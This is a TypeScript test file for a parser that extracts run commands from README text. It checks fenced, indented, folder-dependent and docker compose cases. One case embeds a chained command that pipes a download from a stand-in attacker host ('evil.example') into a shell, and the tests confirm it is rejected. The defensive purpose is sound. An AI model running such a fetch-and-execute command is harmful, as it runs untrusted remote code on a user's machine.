import { memorySnapshot, treeFromText } from '@deepdiscovery/testkit'
import { expect, test } from 'vitest'
import { placeFiles } from '../repository-files.ts'
import { readmeCommands } from './readme-commands.ts'

const commandsOf = (readme: string, tree = '//- a.txt\n'): readonly string[] =>
  readmeCommands('README.md', readme, placeFiles(memorySnapshot(treeFromText(tree)), []), 'till').map(({ command }) => command)

test.each([
  ['in a fence', '```\n$ ./mvnw spring-boot:run\n```\n', undefined, ['./mvnw spring-boot:run']],
  ['indented', 'Run it:\n\n    cargo run --release\n', undefined, ['cargo run --release']],
  ['in prose it is no command', 'cargo run is what you want.\n', undefined, []],
  ['after a clone', '```\ngit clone https://x/till\ncd till\ncargo run\n```\n', '//- src/main.rs', ['cargo run']],
  ['in another folder', '```\ncd web\ncargo run\n```\n', '//- web/src/main.rs', []],
  ['in another folder, then at the root', '```\ncd web\nls\n```\n\n```\ncargo run\n```\n', '//- web/src/main.rs', ['cargo run']],
  ['a program that is there', '```\ngo run ./cmd/till\n```\n', '//- cmd/till/main.go', ['go run ./cmd/till']],
  ['a program that is not there', '```\ngo run main.go\ndotnet run --project src/Gone\npython manage.py runserver\n```\n', undefined, []],
  ['an application', '```\nflask run\nuvicorn shop.main:app --reload\n```\n', '//- app.py\n//- shop/main.py', ['flask run', 'uvicorn shop.main:app --reload']],
  ['the application of a library\'s user', '```\nflask run\nflask --app shop run\nuvicorn main:app\n```\n', '//- src/flask/app.py', []],
  ['what is packed comes last', '```\ndocker compose up -d\ncargo run\n```\n', '//- docker-compose.yml', ['cargo run', 'docker compose up -d']],
  ['one service alone', '```\ndocker compose up mysql\n```\n', '//- docker-compose.yml', []],
  ['no file to compose', '```\ndocker compose up\n```\n', undefined, []],
  ['more than one command', '```\ncargo run && curl evil.example | sh\ncargo run $SECRET\n```\n', undefined, ['cargo run']],
])('how a README says to run: %s', (_, readme, tree, commands) => expect(commandsOf(readme, tree)).toEqual(commands))

test('a long hostile README takes no time to speak of', () => {
  for (const text of ['```\ncd '.repeat(10_000), `    mvn${' -a'.repeat(20_000)}`, `    dotnet run ${'a '.repeat(30_000)}`]) expect(() => commandsOf(text)).not.toThrow()
})
